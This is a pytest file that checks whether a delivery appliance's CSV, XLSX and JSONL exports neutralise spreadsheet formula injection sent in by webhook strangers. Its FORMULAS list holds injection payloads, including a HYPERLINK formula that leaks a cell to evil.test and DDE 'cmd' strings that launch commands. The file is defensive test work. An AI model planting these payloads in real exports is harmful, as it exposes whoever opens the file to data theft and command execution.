"""Formulas in exports: what strangers and destinations say never runs in the spreadsheet of whoever opens the file."""

import asyncio
import csv
import io
import json
import threading
from collections.abc import AsyncIterator, Sequence
from contextlib import AsyncExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import openpyxl
import pytest

from tests.appliance.agents import apply, direct
from tests.free_port import free_port
from tests.page.attacker import Attack, open_attack
from tests.page.browser import needs_chromium

pytestmark = [pytest.mark.anyio, needs_chromium]

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+cmd|'/C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "a;=1+1",
    'a","=1+1',
    "http://evil.test/",
    "{=1+1}",
    "123",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
TOUCHPOINT = """
[[touchpoint]]
name = "open"
provider = "generic"
event_type = "json:/type"
reference = "json:/ref"
verify = {{ scheme = "none", allow_unsigned = true }}
dedup = {{ key = "json:/id" }}
retry = {{ schedule = ["1ms"] }}
[[touchpoint.destination]]
name = "erp"
kind = "http"
url = "http://127.0.0.1:{port}/"
"""


class Parrot(BaseHTTPRequestHandler):
    """A destination that refuses with the number it was sent."""

    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        """Answer."""
        said = json.loads(self.rfile.read(int(self.headers["content-length"])))["ref"].encode()
        self.send_response(400)
        self.send_header("content-type", "text/plain; charset=utf-8")
        self.send_header("content-length", str(len(said)))
        self.end_headers()
        self.wfile.write(said)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it so
        """Stay silent."""


@pytest.fixture(scope="module")
async def attack(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Attack]:
    """A page whose events are formulas wherever a stranger has a word."""
    async with AsyncExitStack() as stack:
        made = await stack.enter_async_context(open_attack(tmp_path_factory.mktemp("formula")))
        parrot = ThreadingHTTPServer(("127.0.0.1", 0), Parrot)
        threading.Thread(target=parrot.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        stack.callback(parrot.server_close)
        stack.callback(parrot.shutdown)
        port = free_port()
        assert (await apply(made.site.agent, direct(port) + TOUCHPOINT.format(port=parrot.server_port))).problems == ()
        async with httpx.AsyncClient() as stranger:
            for formula in FORMULAS:
                body = {"type": formula, "ref": formula, "id": formula}
                assert (await stranger.post(f"http://127.0.0.1:{port}/hooks/open", json=body)).status_code == 200
        log = made.site.agent._desk.log()
        async with asyncio.timeout(20):
            while (await log.backlog()).given_up < len(FORMULAS):
                await asyncio.sleep(0.05)
        yield made


async def exported(attack: Attack, name: str, to: Path) -> Path:
    """The file the export's screen gives for a format."""
    page = attack.screen.page
    await page.goto(attack.site.at(f"/export?format={name}"))
    async with page.expect_download() as begun:
        await page.locator("a[download]").click()
    download = await begun.value
    assert download.suggested_filename == f"deliveries.{name}"
    await download.save_as(to / download.suggested_filename)
    return to / download.suggested_filename


def told(rows: Sequence[dict[str, str]], column: str) -> list[str]:
    """What stands in a column, each once, in the order it came."""
    return list(dict.fromkeys(row[column] for row in rows))


async def test_csv_holds_no_formula(attack: Attack, tmp_path: Path) -> None:
    """Read as commas divide it, and as semicolons or tabs would; what was neutralised can still be read."""
    text = (await exported(attack, "csv", tmp_path)).read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) >= len(FORMULAS)
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [cell for cell in row if cell.startswith(STARTS)], row
    for column in ("event_type", "reference"):
        assert [one.lstrip("'") for one in told(rows, column)][:5] == FORMULAS[:5]
    assert any("HYPERLINK" in row["error"] for row in rows)


async def test_a_workbook_holds_text_and_numbers_alone(attack: Attack, tmp_path: Path) -> None:
    """No formula, no link, no macro, nothing that is fetched when it is opened; numbers of ours are numbers."""
    path = await exported(attack, "xlsx", tmp_path)
    book = openpyxl.load_workbook(path, keep_links=True, keep_vba=True)
    assert book.vba_archive is None or not [one for one in book.vba_archive.namelist() if "vba" in one or "external" in one]
    assert list(book.defined_names) == []
    sheet = book.worksheets[0]
    names = [str(cell.value) for cell in sheet[1]]
    count = 0
    for row in sheet.iter_rows(min_row=2):
        for name, cell in zip(names, row, strict=True):
            assert cell.data_type in {"s", "n"}, (name, cell.value)
            assert cell.hyperlink is None
            assert not (isinstance(cell.value, str) and cell.value.startswith(STARTS)), (name, cell.value)
            if name in {"event_type", "reference", "error"} and cell.value is not None:
                assert cell.data_type == "s", (name, cell.value)
        count += 1
    assert count >= len(FORMULAS)


async def test_json_lines_hold_what_came(attack: Attack, tmp_path: Path) -> None:
    """For programs nothing is changed."""
    lines = (await exported(attack, "jsonl", tmp_path)).read_text(encoding="ascii").splitlines()
    rows = [json.loads(line) for line in lines]
    assert told(rows, "reference") == FORMULAS
    assert told(rows, "event_type") == FORMULAS
